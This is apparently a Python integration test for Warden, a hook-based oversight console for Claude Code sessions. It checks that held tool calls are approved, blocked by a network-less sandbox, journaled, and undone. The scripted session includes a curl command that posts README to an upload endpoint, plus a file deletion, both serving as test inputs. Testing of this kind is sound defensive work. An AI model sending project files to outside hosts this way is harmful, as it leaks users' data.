"""Issue 26, acceptance 2, with the real host: a Claude Code session running under Warden's hooks, in the console.

Claude Code (the pinned npm package, offline against the loopback Messages stand-in) sends a request to a
loopback listener, which is held, and then deletes a file. The person sees the session as a task named for
its host, approves the held call with `a` in Approvals (the hook, waiting, lets it through to `warden exec`,
whose sandbox has no network, so the listener still counts nothing), sees the session's receipts in the Journal,
and undoes the session with `U` (newest first: the delete; the request, audit only, is where undo stops). Every command is harmless: a throwaway project and HOME.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

from app.console import create_app
from engine.runtime import Switches
from tests.console.test_demo_flow import SIZE, query, until
from tests.console.test_host_session import approve_once_seen, undo_session
from tests.hardening.loopback import tcp_listener
from tests.hosts.claude_install import claude_binary
from tests.hosts.messages_standin import MessagesStandIn, text, tool_use
from widgets.approval_list import ApprovalList
from widgets.receipt_journal import ReceiptJournal
from widgets.task_queue import TaskQueue

ROOT = Path(__file__).resolve().parents[2]


async def test_a_claude_code_session_is_followed_and_decided_in_the_console(tmp_path: Path) -> None:
    home, project, warden_home = tmp_path / "home", tmp_path / "project", tmp_path / "warden"
    home.mkdir()
    project.mkdir()
    (project / "notes.txt").write_text("keep me\n")
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home), "WARDEN_HOME": str(warden_home),
           "WARDEN_HOOK_WAIT": "90", "WARDEN_SERVE_IDLE_MINUTES": "0.2", "XDG_CONFIG_HOME": str(home / ".config"),
           "XDG_CACHE_HOME": str(home / ".cache"), "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
           "DISABLE_AUTOUPDATER": "1", "DISABLE_TELEMETRY": "1", "ANTHROPIC_API_KEY": "dummy"}
    installed = subprocess.run([sys.executable, "-m", "app.cli", "hook", "install", "claude-code", "--project",
                                str(project)], env=env, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert installed.returncode == 0, installed.stderr
    claude = claude_binary()
    finished: dict = {}
    with tcp_listener() as listener:
        script = [tool_use("Bash", {"command": f"curl -s -m 2 -d @README {listener.origin}/upload"}),
                  tool_use("Bash", {"command": "rm notes.txt"}),
                  text("done")]
        with MessagesStandIn(script, max_seconds=240) as api:
            session = threading.Thread(target=lambda: finished.update(vars(subprocess.run(
                [str(claude), "-p", "tidy the notes", "--output-format", "json", "--permission-mode", "acceptEdits"],
                cwd=project, env={**env, "ANTHROPIC_BASE_URL": api.url}, capture_output=True, text=True,
                timeout=200, stdin=subprocess.DEVNULL))))
            session.start()
            await _in_the_console(tmp_path, warden_home, project, session)
            session.join()
        assert not listener.reached
    assert finished["returncode"] == 0, finished["stderr"][-2000:]
    assert json.loads(finished["stdout"])["result"] == "done"


async def _in_the_console(tmp_path: Path, warden_home: Path, project: Path, session: threading.Thread) -> None:
    held = lambda: query(warden_home, "SELECT status FROM approvals") if (warden_home / "warden.db").exists() else []  # noqa: E731
    app = create_app(warden_home, project, switches=Switches())
    async with app.run_test(size=SIZE) as pilot:
        approvals = app.query_one(ApprovalList)
        await until(pilot, lambda: approvals.row_count == 1, "the held request in Approvals", attempts=6000)
        [(task_id, goal)] = query(warden_home, "SELECT id, goal FROM tasks")
        assert goal == "claude-code: tidy the notes"
        tasks = app.query_one(TaskQueue)
        await until(pilot, lambda: task_id in tasks.rows, "the session's task")
        assert "claude-code" in [str(cell) for cell in tasks.get_row(task_id)]
        assert held() == [("pending",)]
        await pilot.press("2")
        await approve_once_seen(pilot, warden_home)
        await until(pilot, lambda: not session.is_alive(), "the session to finish", attempts=9000)
        assert not (project / "notes.txt").exists()

        journal = app.query_one(ReceiptJournal)
        receipts = query(warden_home, "SELECT id, summary FROM receipts WHERE task_id = ?", (task_id,))
        assert sorted(summary.removeprefix("FAILED ").split(" ")[1] for _, summary in receipts) == ["curl", "rm"]
        await until(pilot, lambda: all(receipt_id in journal.rows for receipt_id, _ in receipts), "its receipts")

        await undo_session(pilot, tasks, task_id, project / "notes.txt")
        assert (project / "notes.txt").read_text() == "keep me\n"
